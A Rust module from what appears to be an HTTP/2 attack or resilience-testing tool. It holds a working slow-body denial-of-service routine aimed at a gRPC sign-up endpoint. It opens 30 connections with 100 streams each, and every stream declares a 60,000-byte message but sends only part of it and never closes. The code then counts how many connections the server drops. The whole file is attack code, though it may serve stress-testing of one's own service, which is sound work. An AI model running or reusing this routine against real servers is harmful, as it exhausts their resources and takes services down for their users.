//! Bodies that do not end.

use tokio_util::sync::CancellationToken;

use super::{Target, on_connections};
use crate::attack::wire::{DATA, END_HEADERS, HEADERS, beginning, frame, head};

const CONNECTIONS: usize = 30;
const BODIES_PER_CONNECTION: usize = 100;
const BODY_BYTES: u32 = 60_000;
const PART_BYTES: usize = 15_000;
const PARTS: usize = 3;

pub(super) async fn run(target: Target, stop: CancellationToken) -> String {
    let head = head("encore.identity.v1.IdentityService/SignUp");
    let begun = [&[0][..], &BODY_BYTES.to_be_bytes(), &vec![0; PART_BYTES]].concat();
    let mut bytes = beginning(65_535);
    for stream in (1..).step_by(2).take(BODIES_PER_CONNECTION) {
        bytes.extend(frame(HEADERS, END_HEADERS, stream, &head));
        bytes.extend(frame(DATA, 0, stream, &begun));
        for _ in 1..PARTS {
            bytes.extend(frame(DATA, 0, stream, &vec![0; PART_BYTES]));
        }
    }
    let ended = on_connections(CONNECTIONS, &target, bytes, &stop).await;
    format!("{ended} connections ended by the server")
}
